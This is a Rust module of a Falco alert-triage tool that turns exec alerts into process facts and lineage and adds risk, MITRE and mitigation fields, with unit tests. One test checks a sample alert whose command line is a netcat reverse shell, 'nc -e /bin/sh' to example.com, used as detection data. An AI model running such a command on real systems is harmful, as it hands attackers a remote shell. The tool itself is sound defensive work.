//! Falco JSON alerts in, enriched alerts out (`falco-triage enrich`).
//!
//! An alert's `output_fields` become [`ExecFacts`] and a [`Lineage`]; the verdict is written
//! back into `output_fields` under the plugin's field names. The stream contract: one output
//! line per input line, in order; lines that are not exec alerts, malformed JSON, non-UTF-8
//! and over-long lines pass through byte for byte, and so does a line whose analysis
//! panicked (a bug; caught per line by [`crate::panic_guard`]); problems are reported on the
//! error writer with their line number. An enriched line is written whole or not at all.
//!
//! Not here: judging (see [`crate::analysis`]). The mapping is lossy where Falco's output is:
//! `proc.cmdline` and `proc.env` join values with spaces, so arguments that contained spaces
//! come back split.

use crate::analysis::{analyze, Lineage, Verdict};
use crate::facts::{Capabilities, ContainerInfo, ContainerRuntime, DecodeLimits, ExecFacts};
use crate::report;
use serde_json::{Map, Value};
use std::io::{self, BufRead, Write};

/// Lines longer than this are passed through unparsed: bounded memory and work per line.
pub const MAX_LINE_BYTES: usize = 4 << 20;

/// Falco prints `<NA>` for a field without a value.
fn text<'a>(fields: &'a Map<String, Value>, key: &str) -> Option<&'a str> {
    match fields.get(key)? {
        Value::String(s) if s != "<NA>" => Some(s.as_str()),
        _ => None,
    }
}

fn number(fields: &Map<String, Value>, key: &str) -> Option<i64> {
    match fields.get(key)? {
        Value::Number(n) => n.as_i64().or_else(|| n.as_u64().map(|u| u as i64)),
        Value::String(s) => s.trim().parse().ok(),
        _ => None,
    }
}

/// Ids such as uid and loginuid: Falco prints unset ones as -1, the kernel's (u32)-1.
fn id32(fields: &Map<String, Value>, key: &str) -> Option<u32> {
    number(fields, key).map(|n| {
        if n < 0 {
            u32::MAX
        } else {
            u32::try_from(n).unwrap_or(u32::MAX)
        }
    })
}

/// Split a space-joined list (Falco's `proc.cmdline`, `proc.env`), bounded in count and bytes.
fn split_bounded(s: &str, max_items: usize, max_bytes: usize) -> (Vec<String>, bool) {
    let mut items = Vec::new();
    let mut bytes = 0usize;
    for part in s.split(' ').filter(|p| !p.is_empty()) {
        if items.len() >= max_items || bytes + part.len() > max_bytes {
            return (items, true);
        }
        bytes += part.len();
        items.push(part.to_string());
    }
    (items, false)
}

/// `evt.res` is `SUCCESS`, an errno name (`ENOENT`) or a number; `evt.rawres` a number.
fn syscall_result(fields: &Map<String, Value>) -> Option<i64> {
    if let Some(n) = number(fields, "evt.rawres") {
        return Some(n);
    }
    if let Some(n) = number(fields, "evt.res") {
        return Some(n);
    }
    let name = text(fields, "evt.res")?;
    let errno = match name {
        "SUCCESS" => return Some(0),
        "EPERM" => libc::EPERM,
        "ENOENT" => libc::ENOENT,
        "E2BIG" => libc::E2BIG,
        "ENOEXEC" => libc::ENOEXEC,
        "ENOMEM" => libc::ENOMEM,
        "EFAULT" => libc::EFAULT,
        "EACCES" => libc::EACCES,
        "ENOTDIR" => libc::ENOTDIR,
        "EISDIR" => libc::EISDIR,
        "EINVAL" => libc::EINVAL,
        "ETXTBSY" => libc::ETXTBSY,
        "ELOOP" => libc::ELOOP,
        "ENAMETOOLONG" => libc::ENAMETOOLONG,
        // Some other failure: the exact errno does not change the analysis.
        other if other.starts_with('E') => libc::EINVAL,
        _ => return None,
    };
    Some(-i64::from(errno))
}

fn capabilities(fields: &Map<String, Value>) -> Capabilities {
    // Falco prints capability sets as space-separated names (`CAP_CHOWN CAP_KILL`).
    let set = |key: &str| -> Option<u64> {
        let s = text(fields, key)?;
        Some(
            s.split([' ', ','])
                .filter_map(super::capability_bit)
                .fold(0, |a, b| a | b),
        )
    };
    Capabilities {
        inheritable: set("proc.cap_inheritable"),
        permitted: set("proc.cap_permitted"),
        effective: set("proc.cap_effective"),
    }
}

fn container(fields: &Map<String, Value>) -> (Option<ContainerInfo>, bool) {
    let Some(id) = fields.get("container.id").and_then(Value::as_str) else {
        return (None, false);
    };
    let id = id.trim();
    // Falco's container.id is "host" (or empty) outside containers.
    let is_hex = id.len() >= 12 && id.bytes().all(|b| b.is_ascii_hexdigit());
    if !is_hex {
        return (None, true);
    }
    let runtime = match text(fields, "container.type") {
        Some("containerd") => ContainerRuntime::Containerd,
        Some("cri-o") | Some("crio") => ContainerRuntime::CriO,
        Some("podman") => ContainerRuntime::Podman,
        Some("docker") => ContainerRuntime::Docker,
        _ if text(fields, "k8s.pod.name").is_some() => ContainerRuntime::Kubepods,
        // The alert does not say: do not guess.
        _ => ContainerRuntime::Unknown,
    };
    (
        Some(ContainerInfo {
            runtime,
            short_id: id[..12].to_ascii_lowercase(),
        }),
        true,
    )
}

fn lineage(fields: &Map<String, Value>) -> Lineage {
    let mut comms: Vec<String> = Vec::new();
    if let Some(p) = text(fields, "proc.pname").or_else(|| text(fields, "proc.aname[1]")) {
        comms.push(p.to_string());
        // proc.aname[2..]: grandparent and up, until the first missing level.
        for n in 2..=64 {
            match text(fields, &format!("proc.aname[{n}]")) {
                Some(a) => comms.push(a.to_string()),
                None => break,
            }
        }
    }
    let mut lineage = Lineage::from_comms(comms);
    if let Some(parent) = lineage.ancestors.first_mut() {
        parent.exe = text(fields, "proc.pexepath").map(str::to_string);
        if let Some(pcmd) = text(fields, "proc.pcmdline") {
            let limits = DecodeLimits::default();
            let (mut args, _) = split_bounded(pcmd, limits.max_args, limits.max_args_bytes);
            if !args.is_empty() {
                args.remove(0);
            }
            parent.args = args;
        }
    }
    lineage
}

/// The facts and lineage one alert's `output_fields` describe. `None` when it is not an exec
/// alert (no `proc.cmdline`).
pub fn facts_from_output_fields(fields: &Map<String, Value>) -> Option<(ExecFacts, Lineage)> {
    let cmdline = text(fields, "proc.cmdline")?;
    let limits = DecodeLimits::default();
    let (argv, argv_truncated) = split_bounded(cmdline, limits.max_args, limits.max_args_bytes);
    let (env, env_truncated) = match text(fields, "proc.env") {
        Some(e) => {
            let (items, cut) = split_bounded(e, limits.max_env, limits.max_env_bytes);
            (
                items.into_iter().filter(|kv| kv.contains('=')).collect(),
                cut,
            )
        }
        None => (Vec::new(), false),
    };
    let (container, cgroups_present) = container(fields);
    let facts = ExecFacts {
        argv,
        argv_truncated,
        exe_path: text(fields, "proc.exepath").map(str::to_string),
        cwd: text(fields, "proc.cwd").map(str::to_string),
        comm: text(fields, "proc.name").map(str::to_string),
        env,
        env_truncated,
        tty: number(fields, "proc.tty").and_then(|n| u32::try_from(n).ok()),
        uid: id32(fields, "user.uid"),
        gid: id32(fields, "group.gid"),
        loginuid: id32(fields, "user.loginuid"),
        tid: number(fields, "thread.tid"),
        pid: number(fields, "proc.pid"),
        ptid: number(fields, "proc.ppid"),
        res: syscall_result(fields),
        exe_flags: text(fields, "evt.arg.flags").and_then(|f| super::parse_exe_flags(f).ok()),
        caps: capabilities(fields),
        container,
        cgroups_present,
        ..Default::default()
    };
    Some((facts, lineage(fields)))
}

/// Parse one alert line into facts and lineage (for `falco-triage` with no arguments).
pub fn facts_from_alert(line: &str) -> Result<(ExecFacts, Lineage), String> {
    let value: Value = serde_json::from_str(line).map_err(|e| format!("not JSON: {e}"))?;
    let fields = value
        .get("output_fields")
        .and_then(Value::as_object)
        .ok_or("the alert has no output_fields object")?;
    facts_from_output_fields(fields).ok_or_else(|| "the alert has no proc.cmdline".to_string())
}

/// Add the verdict to `output_fields` under the plugin's field names.
pub fn add_triage_fields(
    fields: &mut Map<String, Value>,
    facts: &ExecFacts,
    lineage: &Lineage,
    verdict: &Verdict,
) {
    let techniques: Vec<Value> = verdict
        .techniques
        .iter()
        .map(|t| Value::from(t.id))
        .collect();
    let mitigations: Vec<Value> = verdict
        .mitigations
        .iter()
        .map(|m| Value::from(m.text))
        .collect();
    fields.insert("triage.risk".into(), Value::from(verdict.risk));
    fields.insert(
        "triage.severity".into(),
        Value::from(verdict.severity.as_str()),
    );
    fields.insert("triage.category".into(), Value::from(verdict.category));
    let text = report::render(facts, lineage, verdict);
    fields.insert("triage.summary".into(), Value::from(text.summary.as_str()));
    fields.insert("triage.mitre.techniques".into(), Value::Array(techniques));
    fields.insert("triage.mitigations".into(), Value::Array(mitigations));
    fields.insert(
        "triage.report".into(),
        report::json_report(facts, lineage, verdict, &text),
    );
}

/// What happened to one line.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LineOutcome {
    Enriched,
    /// Valid JSON but not an exec alert, or blank.
    PassedThrough,
    /// Not JSON (or not UTF-8): passed through, reported.
    Malformed,
    /// Over [`MAX_LINE_BYTES`]: passed through unparsed, reported.
    Oversized,
}

/// Counts over a stream.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct EnrichStats {
    pub lines: u64,
    pub enriched: u64,
    pub passed_through: u64,
    pub malformed: u64,
    pub oversized: u64,
    /// Lines whose analysis panicked (a bug): passed through unchanged and reported.
    pub failed: u64,
}

/// Enrich one line (without its terminator). `Ok(Some(bytes))` is the replacement line,
/// `Ok(None)` means "write the original", `Err` a parse error message.
pub fn enrich_line(line: &[u8]) -> Result<Option<Vec<u8>>, String> {
    if line.iter().all(u8::is_ascii_whitespace) {
        return Ok(None);
    }
    let mut value: Value = serde_json::from_slice(line).map_err(|e| e.to_string())?;
    let Some(fields) = value
        .get_mut("output_fields")
        .and_then(Value::as_object_mut)
    else {
        return Ok(None);
    };
    let Some((facts, lineage)) = facts_from_output_fields(fields) else {
        return Ok(None);
    };
    let verdict = analyze(&facts, &lineage);
    add_triage_fields(fields, &facts, &lineage, &verdict);
    serde_json::to_vec(&value)
        .map(Some)
        .map_err(|e| e.to_string())
}

/// Enrich a stream of alerts, one per line. I/O errors stop the stream; everything else is
/// reported on `errors` and the line passed through.
pub fn enrich_stream<R: BufRead, W: Write, E: Write>(
    mut input: R,
    mut out: W,
    mut errors: E,
    max_line: usize,
) -> io::Result<EnrichStats> {
    let mut stats = EnrichStats::default();
    let mut line = Vec::new();
    loop {
        line.clear();
        // Read one line, but stop buffering past max_line: from there on, stream it through.
        let mut oversized = false;
        let mut terminated = false;
        loop {
            let buf = input.fill_buf()?;
            if buf.is_empty() {
                break;
            }
            let (chunk, done) = match buf.iter().position(|&b| b == b'\n') {
                Some(i) => (&buf[..=i], true),
                None => (buf, false),
            };
            let n = chunk.len();
            if oversized {
                out.write_all(chunk)?;
            } else {
                line.extend_from_slice(chunk);
                if line.len() > max_line {
                    oversized = true;
                    out.write_all(&line)?;
                    line.clear();
                }
            }
            input.consume(n);
            if done {
                terminated = true;
                break;
            }
        }
        if !oversized && line.is_empty() {
            break; // end of input
        }
        stats.lines += 1;
        if oversized {
            stats.oversized += 1;
            writeln!(
                errors,
                "falco-triage: line {}: longer than {max_line} bytes, passed through unchanged",
                stats.lines
            )?;
            if !terminated {
                break;
            }
            continue;
        }
        let body_len = line.len() - usize::from(terminated);
        let (body, terminator) = line.split_at(body_len);
        // A bug in the analysis costs its line the triage, not the rest of the stream.
        let outcome = crate::panic_guard::catch_panic(|| enrich_line(body));
        match outcome {
            Ok(Ok(Some(enriched))) => {
                stats.enriched += 1;
                let mut whole = enriched;
                whole.extend_from_slice(terminator);
                out.write_all(&whole)?;
            }
            Ok(Ok(None)) => {
                stats.passed_through += 1;
                out.write_all(&line)?;
            }
            Ok(Err(msg)) => {
                stats.malformed += 1;
                writeln!(
                    errors,
                    "falco-triage: line {}: not a JSON alert ({}), passed through unchanged",
                    stats.lines,
                    report::escape(&msg, 200)
                )?;
                out.write_all(&line)?;
            }
            Err(panic) => {
                stats.failed += 1;
                writeln!(
                    errors,
                    "falco-triage: line {}: the analysis panicked (a bug, please report it: \
                     {panic}), passed through unchanged",
                    stats.lines
                )?;
                out.write_all(&line)?;
            }
        }
        if !terminated {
            break;
        }
    }
    out.flush()?;
    Ok(stats)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::facts::ExeFlags;

    #[test]
    fn a_panicking_line_passes_through_and_the_stream_goes_on() {
        let sample = super::super::SAMPLE_ALERT.trim_end();
        let input = format!("{sample}\n{sample}\n");
        let (mut out, mut err) = (Vec::new(), Vec::new());
        crate::panic_guard::force_next_panic();
        let stats =
            enrich_stream(input.as_bytes(), &mut out, &mut err, 1 << 16).expect("in memory");
        assert_eq!((stats.lines, stats.failed, stats.enriched), (2, 1, 1));
        let out = String::from_utf8(out).expect("UTF-8");
        let lines: Vec<&str> = out.lines().collect();
        assert_eq!(lines.len(), 2);
        assert_eq!(lines[0], sample, "the failed line passes through unchanged");
        assert!(
            lines[1].contains("\"triage.risk\""),
            "the next line is enriched"
        );
        let err = String::from_utf8(err).expect("UTF-8");
        assert!(
            err.starts_with(
                "falco-triage: line 1: the analysis panicked (a bug, please report it: "
            ) && err.contains("test hook: forced panic")
                && err.ends_with("), passed through unchanged\n")
                && err.lines().count() == 1,
            "{err}"
        );
    }

    #[test]
    fn sample_alert_maps_every_field() {
        let (facts, lineage) = facts_from_alert(super::super::SAMPLE_ALERT).expect("sample parses");
        assert_eq!(facts.argv, ["nc", "-e", "/bin/sh", "example.com", "22"]);
        assert_eq!(facts.exe_path.as_deref(), Some("/usr/bin/nc.openbsd"));
        assert_eq!(facts.comm.as_deref(), Some("nc"));
        assert_eq!(facts.uid, Some(0));
        assert_eq!(facts.loginuid, Some(u32::MAX));
        assert_eq!(facts.tty, Some(0));
        assert_eq!(
            facts.exe_flags,
            Some(ExeFlags(ExeFlags::WRITABLE | ExeFlags::LOWER_LAYER))
        );
        let c = facts.container.expect("in a container");
        assert_eq!(c.short_id, "1d45a96b1daa");
        assert!(facts.cgroups_present);
        assert_eq!(
            lineage.parent().map(|a| a.comm.as_str()),
            Some("event-generator")
        );
        assert!(lineage.known);
    }

    /// Found by the `enrich_line` fuzzer: a number beyond integer range came back as a
    /// slightly different float, so enrich altered a field of the original alert.
    #[test]
    fn enrich_keeps_numbers_of_the_original_alert() {
        let line = format!(
            r#"{{"output_fields":{{"proc.cmdline":"sh -c id","proc.uid":{}2,"x":0.1}}}}"#,
            "4".repeat(113)
        );
        let out = enrich_line(line.as_bytes()).unwrap().expect("enriched");
        let original: Value = serde_json::from_str(&line).unwrap();
        let enriched: Value = serde_json::from_slice(&out).unwrap();
        for key in ["proc.uid", "x"] {
            assert_eq!(
                enriched["output_fields"][key], original["output_fields"][key],
                "{key}"
            );
        }
    }

    #[test]
    fn host_container_id_means_no_container() {
        let fields: Map<String, Value> = serde_json::from_str(
            r#"{"proc.cmdline":"ls -la","container.id":"host","proc.aname[2]":"sshd",
                "proc.pname":"bash","proc.aname[3]":"systemd","evt.res":"ENOENT"}"#,
        )
        .unwrap();
        let (facts, lineage) = facts_from_output_fields(&fields).unwrap();
        assert_eq!(facts.container, None);
        assert!(facts.cgroups_present);
        assert_eq!(facts.res, Some(-i64::from(libc::ENOENT)));
        let comms: Vec<&str> = lineage.ancestors.iter().map(|a| a.comm.as_str()).collect();
        assert_eq!(comms, ["bash", "sshd", "systemd"]);
    }

    #[test]
    fn argv_split_is_bounded() {
        let long = "x ".repeat(10_000);
        let (argv, cut) = split_bounded(&long, 256, 16 * 1024);
        assert_eq!(argv.len(), 256);
        assert!(cut);
    }
}
